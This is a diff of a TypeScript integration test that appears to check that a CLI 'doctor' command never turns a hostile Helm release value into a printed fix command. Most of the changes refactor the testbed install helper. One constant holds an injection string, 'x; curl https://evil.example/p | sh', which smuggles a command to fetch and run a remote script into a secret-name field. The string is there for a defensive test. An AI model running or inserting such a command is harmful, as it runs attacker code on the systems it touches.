@@ -6,9 +6,9 @@
  * secret name and prints no command for it, in the text output and in --output json.
  */
 import { expect, it } from 'vitest';
-import { installProBuilder } from '../fixtures/installedRelease.js';
 import { runCli } from './cliHarness.js';
-import { describeWithCharts, kubeClient, namespacesDeletedAfterAll, referenceChart, testbed, uniqueNamespace } from './testbed.js';
+import { describeWithCharts, kubeClient, namespacesDeletedAfterAll, testbed, uniqueNamespace } from './testbed.js';
+import { installOnTestbed, SMALL_BUILDKIT } from './testbedInstall.js';
 
 const HOSTILE = 'x; curl https://evil.example/p | sh';
 
@@ -26,14 +26,12 @@ describeWithCharts('doctor: a hostile value in the release never becomes a fix c
   it('awsCredentialsSecret set to a shell command: reported as an invalid name, no command printed', async () => {
     const ns = uniqueNamespace('hostile');
     namespaces.push(ns);
-    await installProBuilder({
+    await installOnTestbed({
       kube,
-      kubeconfig: testbed.kubeconfig!,
       helmBinary: testbed.helm4!,
-      chartDir: referenceChart('0.6.10'),
+      chart: '0.6.10',
       namespace: ns,
-      buildkitCpu: '100m',
-      buildkitMemory: '128Mi',
+      ...SMALL_BUILDKIT,
       values: `awsCredentialsSecret: ${JSON.stringify(HOSTILE)}\n`,
       waitForRollout: false,
     });
